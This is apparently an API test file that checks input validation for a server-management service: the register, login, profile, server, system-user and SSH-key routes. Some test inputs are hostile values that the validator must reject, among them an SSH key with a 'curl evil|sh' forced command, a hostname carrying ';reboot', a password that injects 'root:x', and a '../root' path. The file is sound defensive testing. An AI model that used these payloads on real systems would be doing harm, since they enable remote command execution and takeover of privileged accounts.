import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type TestApp, type TestUser, buildTestApp } from './helpers';
import { ManagedStore } from '../../server/managed/store';

/**
 * Bad input: every body and query is validated and a 400 names the fields in `errors` (the
 * forms show each message on its input); ids that are not plain digits answer 404; malformed
 * JSON 400; bodies over the limit 413; unknown API paths a JSON 404.
 */
let t: TestApp;
let user: TestUser;
let admin: TestUser;
/** The user's server and a system user on it, for the server routes. */
let serverId: number;
let sysuserId: number;
beforeAll(async () => {
  t = await buildTestApp();
  [user, admin] = await Promise.all([t.user(), t.user({ admin: true })]);
  serverId = (await t.app.services.servers.create(user.id, {})).id;
  sysuserId = (
    await new ManagedStore(t.app.db, 'sysusers').insert(serverId, {
      user_name: 'deploy',
      quota_hard: 0,
      quota_soft: 0,
    })
  ).id;
});
afterAll(() => t.close());

export interface Case {
  /** Method and registered route, e.g. `PUT /api/v1/users/:uid`. */
  route: string;
  query?: string;
  body?: unknown;
  /** The caller; anonymous when not given. */
  as?: 'user' | 'admin';
  /** Every field the 400 must name, with a fragment of its message where it matters. */
  errors: Record<string, string | RegExp>;
  /**
   * Named path parameters (`cronId`) for routes whose child must exist (the request hook loads
   * it before the body is read), made on the user's server.
   */
  params?: (f: {
    t: TestApp;
    serverId: number;
    /** The signed-in user of the case (`as: 'user'`): the owner of account rows. */
    uid: number;
  }) => Promise<Record<string, string | number>>;
}

const anything = /./;
const CASES: Case[] = [
  // Register
  {
    route: 'POST /api/v1/users',
    body: {},
    errors: { user_name: 'Required', email: anything, password: 'Required' },
  },
  {
    route: 'POST /api/v1/users',
    body: { user_name: 'a', email: 'not-an-email', password: 'short' },
    errors: {
      user_name: 'At least 2 characters',
      email: 'Enter a valid email address',
      password: 'At least 10 characters',
    },
  },
  {
    route: 'POST /api/v1/users',
    query: '?ref=not-a-uuid',
    body: { user_name: 'Valid Name', email: 'valid@example.com', password: 'long enough pw' },
    errors: { ref: anything },
  },
  // Confirm, resend, forgot, reset
  // No body at all is validated as an empty object: the missing fields are named.
  { route: 'POST /api/v1/users/confirm', errors: { uuid: 'Required', code: 'Required' } },
  {
    route: 'POST /api/v1/users/confirm',
    body: { uuid: 'x', code: '12' },
    errors: { uuid: anything, code: 'Enter the 6-digit code' },
  },
  { route: 'GET /api/v1/users/email', errors: { uuid: 'Required' } },
  {
    route: 'GET /api/v1/users/email',
    query: `?uuid=${randomUUID()}&resend=maybe`,
    errors: { resend: anything },
  },
  { route: 'GET /api/v1/users', errors: { em: 'Required' } },
  { route: 'GET /api/v1/users', query: `?em=${'a'.repeat(255)}`, errors: { em: anything } },
  {
    route: 'POST /api/v1/users/password',
    body: { id: 'nope', code: 'abcdef', password: 'short' },
    errors: { id: anything, code: 'Enter the 6-digit code', password: 'At least 10 characters' },
  },
  // Login
  {
    route: 'POST /api/v1/users/login',
    body: {},
    errors: { email: 'Required', password: 'Required' },
  },
  {
    route: 'POST /api/v1/users/login',
    query: '?otp=12ab&provider=github',
    body: { email: 'a@b.c', password: 'x' },
    errors: { otp: 'Enter the 6-digit code', provider: anything },
  },
  {
    route: 'POST /api/v1/users/login',
    body: { email: 'a'.repeat(255), password: 'p'.repeat(129) },
    errors: { email: anything, password: anything },
  },
  // Profile
  {
    route: 'PUT /api/v1/users/:uid',
    as: 'user',
    body: {
      user_name: 'a',
      Country: 'Germany',
      PostalCode: '1'.repeat(21),
      LoginNotif: 5,
      password: 'short',
      two_factor: 'yes',
      two_factor_method: 'sms',
      otp_code: 'abc',
      current_password: 'p'.repeat(129),
    },
    errors: {
      user_name: 'At least 2 characters',
      Country: 'Pick a country',
      PostalCode: anything,
      LoginNotif: anything,
      password: 'At least 10 characters',
      two_factor: anything,
      two_factor_method: anything,
      otp_code: 'Enter the 6-digit code',
      current_password: anything,
    },
  },
  { route: 'PUT /api/v1/images/users/:uid', as: 'user', body: {}, errors: { data: 'Required' } },
  {
    route: 'PUT /api/v1/images/users/:uid',
    as: 'user',
    body: { data: 'data:image/svg+xml;base64,PHN2Zz4=' },
    errors: { data: 'PNG, JPEG, WebP or GIF only' },
  },
  // Lists: paging, sorting and filters
  {
    route: 'GET /api/v1/authlogs/users/:uid',
    as: 'user',
    query: '?page=0&perPage=501&sort=password_hash&order=up&outcome=guess',
    errors: {
      page: anything,
      perPage: anything,
      sort: anything,
      order: anything,
      outcome: anything,
    },
  },
  {
    route: 'GET /api/v1/accntactivity/users/:uid',
    as: 'user',
    query: `?q=${'x'.repeat(101)}&page=x`,
    errors: { q: anything, page: anything },
  },
  {
    route: 'GET /api/v1/clone-events/users/:uid',
    as: 'user',
    query: '?perPage=0&sort=name',
    errors: { perPage: anything, sort: anything },
  },
  {
    route: 'GET /api/v1/servers/users/:uid',
    as: 'user',
    query: '?sort=user_id&page=-1',
    errors: { sort: anything, page: anything },
  },
  {
    route: 'GET /api/v1/admin/users',
    as: 'admin',
    query: `?sort=password_hash&q=${'x'.repeat(255)}`,
    errors: { sort: anything, q: anything },
  },
  {
    route: 'GET /api/v1/admin/outbox',
    as: 'admin',
    query: '?order=sideways&sort=text_body',
    errors: { order: anything, sort: anything },
  },
  // Servers
  {
    route: 'POST /api/v1/servers/users/:uid',
    as: 'user',
    // Fastify checks the body, then the query: each case names the fields of one part.
    query: '?action=create',
    body: { name: '', ip4: '300.1.1.1', provider: 'p'.repeat(65) },
    errors: {
      name: 'Give the server a name',
      ip4: /IPv4/,
      provider: anything,
    },
  },
  {
    route: 'POST /api/v1/servers/users/:uid',
    as: 'user',
    query: '?action=destroy&sid=x',
    errors: { action: anything, sid: anything },
  },
  {
    route: 'PUT /api/v1/servers/:sid/users/:uid',
    as: 'user',
    body: { name: ' ', timezone: 'z'.repeat(65) },
    errors: { name: anything, timezone: anything },
  },
  {
    route: 'GET /api/v1/stats/servers/:sid/users/:uid',
    as: 'user',
    query: '?range=year',
    errors: { range: anything },
  },
  {
    route: 'GET /api/v1/activity/servers/:sid/users/:uid',
    as: 'user',
    query: '?status=lost&sort=error',
    errors: { status: anything, sort: anything },
  },
  {
    route: 'POST /api/v1/transfer/servers/:sid/users/:uid',
    as: 'user',
    body: { email: 'nobody' },
    errors: { email: 'Enter a valid email address' },
  },
  {
    route: 'GET /api/v1/transfer',
    as: 'user',
    query: '?uuid=nope&processed=false',
    errors: { uuid: anything, processed: anything },
  },
  {
    route: 'PUT /api/v1/hostname/servers/:sid/users/:uid',
    as: 'user',
    body: { hostname: 'bad_name;reboot' },
    errors: { hostname: /Letters, digits and hyphens/ },
  },
  {
    route: 'PATCH /api/v1/servicemgmt/servers/:sid/users/:uid',
    as: 'user',
    query: '?action=restart',
    body: { service: 'bash' },
    errors: { service: anything },
  },
  {
    route: 'PATCH /api/v1/servicemgmt/servers/:sid/users/:uid',
    as: 'user',
    query: '?action=kill',
    body: { service: 'nginx' },
    errors: { action: anything },
  },
  {
    route: 'PATCH /api/v1/sshconfig/servers/:sid/users/:uid',
    as: 'user',
    body: { port: 0, password_authentication: 'no', permit_root_login: 'yes' },
    errors: { port: anything, password_authentication: anything, permit_root_login: anything },
  },
  // System users: names and passwords that would reach useradd and chpasswd.
  {
    route: 'GET /api/v1/sysusers/servers/:sid/users/:uid',
    as: 'user',
    query: '?sort=password',
    errors: { sort: anything },
  },
  {
    route: 'POST /api/v1/sysusers/servers/:sid/users/:uid',
    as: 'user',
    body: { user_name: 'Bad Name', password: 'short:pw', quota_hard: -1, quota_soft: 'lots' },
    errors: {
      user_name: /Lower-case/,
      password: anything,
      quota_hard: anything,
      quota_soft: anything,
    },
  },
  {
    route: 'POST /api/v1/sysusers/servers/:sid/users/:uid',
    as: 'user',
    body: {
      user_name: 'daemon',
      password: 'a long password\nroot:x',
      quota_hard: 10,
      quota_soft: 20,
    },
    errors: {
      user_name: 'This name is reserved',
      password: 'No colons or line breaks',
      quota_soft: /soft limit/,
    },
  },
  {
    route: 'POST /api/v1/sysusers/servers/:sid/users/:uid',
    as: 'user',
    query: '?dry=maybe',
    body: { user_name: 'deployer', password: 'a long system password' },
    errors: { dry: anything },
  },
  {
    route: 'GET /api/v1/sysusers/:id/servers/:sid/users/:uid',
    as: 'user',
    query: '?rsa=steal',
    errors: { rsa: anything },
  },
  {
    route: 'PUT /api/v1/sysusers/:id/servers/:sid/users/:uid',
    as: 'user',
    body: { password: 'x' },
    errors: { password: 'At least 12 characters' },
  },
  // SSH keys: one OpenSSH public key, no options that could carry a command.
  {
    route: 'GET /api/v1/pubkeys/servers/:sid/users/:uid',
    as: 'user',
    query: '?sort=public_key',
    errors: { sort: anything },
  },
  {
    route: 'POST /api/v1/pubkeys/servers/:sid/users/:uid',
    as: 'user',
    body: {
      label: '',
      user_name: '../root',
      key: 'command="curl evil|sh" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGdv',
    },
    errors: { label: 'Name the key', user_name: anything, key: /OpenSSH public key/ },
  },
];

/** Each feature's cases (tests/api/validation/*.cases.ts) join these. */
CASES.push(
  ...Object.values(
    import.meta.glob<{ cases: Case[] }>('./validation/*.cases.ts', { eager: true }),
  ).flatMap((module) => module.cases),
);

function urlFor(route: string, id: string | number, params: Record<string, string | number> = {}) {
  return (
    route
      .split(' ')[1]!
      .replace(/:(\w+)/g, (param, name: string) =>
        Object.hasOwn(params, name) ? String(params[name]) : param,
      )
      .replace(':uid', String(id))
      .replace(':sid', String(serverId))
      .replace(':id', String(route.includes(':sid') ? sysuserId : id))
      // Any other id (a feature's own): the body or query fails validation before it is read.
      .replace(/:\w+/g, '1')
  );
}

describe('400 names the fields', () => {
  it.each(CASES)('$route $query', async (c) => {
    const caller = c.as === 'admin' ? admin : c.as === 'user' ? user : undefined;
    let params: Record<string, string | number> | undefined;
    const res = await t.call(
      c.route.split(' ')[0] as 'GET',
      urlFor(c.route, caller?.id ?? 1, (params = await c.params?.({ t, serverId, uid: user.id }))) +
        // `:name` in the query takes the named parameter too (`?wsid=:appId`).
        (c.query ?? '').replace(/:(\w+)/g, (token, name: string) =>
          params && name in params ? String(params[name]) : token,
        ),
      { token: caller?.token, body: c.body },
    );
    expect(res.statusCode, res.body).toBe(400);
    const body = res.json() as { errors: Record<string, string>; message: string };
    expect(Object.keys(body.errors).sort()).toEqual(Object.keys(c.errors).sort());
    for (const [field, message] of Object.entries(c.errors)) {
      if (typeof message === 'string') expect(body.errors[field]).toBe(message);
      else expect(body.errors[field]).toMatch(message);
    }
    expect(body.message).toMatch(/^Invalid /);
  });

  it('has a case for every route that takes a body or a query', async () => {
    const doc = (await t.call('GET', '/api/docs/json')).json() as {
      paths: Record<
        string,
        Record<string, { requestBody?: unknown; parameters?: { in: string }[] }>
      >;
    };
    const withInput: string[] = [];
    for (const [path, ops] of Object.entries(doc.paths)) {
      for (const [method, op] of Object.entries(ops)) {
        if (op.requestBody || op.parameters?.some((p) => p.in === 'query'))
          withInput.push(`${method.toUpperCase()} ${path.replace(/\{(\w+)\}/g, ':$1')}`);
      }
    }
    const covered = new Set(CASES.map((c) => c.route));
    expect(withInput.filter((route) => !covered.has(route))).toEqual([]);
    expect(withInput.length).toBeGreaterThanOrEqual(14);
  });

  it('a privileged field is not an error: it is dropped', async () => {
    const res = await t.call('PUT', `/api/v1/users/${user.id}`, {
      token: user.token,
      body: { is_admin: true, City: 'Lyon' },
    });
    expect(res.statusCode).toBe(200);
  });
});

describe('path ids', () => {
  const idRoutes = [
    'GET /api/v1/users/:uid',
    'PUT /api/v1/users/:uid',
    'DELETE /api/v1/users/:uid',
    'POST /api/v1/auth/gen/users/:uid',
    'POST /api/v1/users/:uid/totp',
    'GET /api/v1/images/users/:uid',
    'GET /api/v1/authlogs/users/:uid',
    'POST /api/v1/admin/act-as/users/:uid',
    'GET /api/v1/admin/outbox/:id',
  ];
  const bad = ['abc', '0', '-1', '1.5', '0x1', '1e0', '01', '%201', '99999999999999999999'];

  it.each(idRoutes)(
    '%s: an id that is not plain digits answers 404, for the owner and for admins',
    async (route) => {
      const [method] = route.split(' ');
      // {uid} is checked before any guard; other ids after the guard (a non-admin gets 403 first).
      for (const caller of route.includes(':uid') ? [user, admin] : [admin]) {
        for (const id of bad) {
          const res = await t.call(method as 'GET', urlFor(route, id), {
            token: caller.token,
            body: method === 'PUT' ? {} : undefined,
          });
          expect(res.statusCode, `${route} with ${id}`).toBe(404);
          expect(res.json()).toEqual({ statusCode: 404, error: 'Not Found', message: 'Not found' });
        }
      }
    },
  );
});

describe('malformed and oversized bodies', () => {
  it('malformed JSON answers 400', async () => {
    for (const [url, token] of [
      ['/api/v1/users/login', undefined],
      [`/api/v1/users/${user.id}`, user.token],
    ] as const) {
      const res = await t.call(url.endsWith('login') ? 'POST' : 'PUT', url, {
        token,
        body: '{"email": "a@b.c",',
        headers: { 'content-type': 'application/json' },
      });
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ statusCode: 400, error: 'Bad Request' });
    }
  });

  it('a body that is not an object answers 400 naming the root', async () => {
    const res = await t.call('POST', '/api/v1/users/login', { body: [1, 2] });
    expect(res.statusCode).toBe(400);
    expect(Object.keys(res.json().errors)).toEqual(['root']);
  });

  it('an unknown content type answers 415', async () => {
    const res = await t.call('POST', '/api/v1/users/login', {
      body: '<login/>',
      headers: { 'content-type': 'application/xml' },
    });
    expect(res.statusCode).toBe(415);
  });

  it('bodies over 1 MiB answer 413', async () => {
    const big = 'x'.repeat(1024 * 1024 + 1);
    const login = await t.call('POST', '/api/v1/users/login', {
      body: { email: big, password: 'x' },
    });
    expect(login.statusCode).toBe(413);
    expect(login.json()).toMatchObject({ statusCode: 413, error: 'Payload Too Large' });
    const profile = await t.call('PUT', `/api/v1/users/${user.id}`, {
      token: user.token,
      body: { City: big },
    });
    expect(profile.statusCode).toBe(413);
  });

  it('the photo upload allows 2 MiB and no more', async () => {
    const url = `/api/v1/images/users/${user.id}`;
    // 1.4 MB of base64: over the default limit, under the photo's own.
    const ok = `data:image/png;base64,${'A'.repeat(1_400_000)}`;
    const accepted = await t.call('PUT', url, { token: user.token, body: { data: ok } });
    expect(accepted.statusCode, accepted.body.slice(0, 200)).toBe(200);
    // Under 2 MiB but past the 1.5M characters of the photo rule: a 400 on `data`, not a 413.
    const tooLong = `data:image/png;base64,${'A'.repeat(1_600_000)}`;
    const refused = await t.call('PUT', url, { token: user.token, body: { data: tooLong } });
    expect(refused.statusCode).toBe(400);
    expect(refused.json().errors.data).toBe('The photo must be under 1 MB');
    const huge = `data:image/png;base64,${'A'.repeat(2 * 1024 * 1024)}`;
    const tooBig = await t.call('PUT', url, { token: user.token, body: { data: huge } });
    expect(tooBig.statusCode).toBe(413);
  });
});

describe('unknown paths', () => {
  it.each([
    ['GET', '/api/v1/nope'],
    ['GET', '/api/v1/users/1/nope'],
    ['PATCH', '/api/v1/users/1'],
    ['POST', '/api/v2/users/login'],
  ])('%s %s answers a JSON 404', async (method, url) => {
    const res = await t.call(method as 'GET', url, {
      token: user.token,
      headers: { accept: 'text/html' },
    });
    expect(res.statusCode).toBe(404);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.json()).toEqual({ statusCode: 404, error: 'Not Found', message: 'Not found' });
  });
});
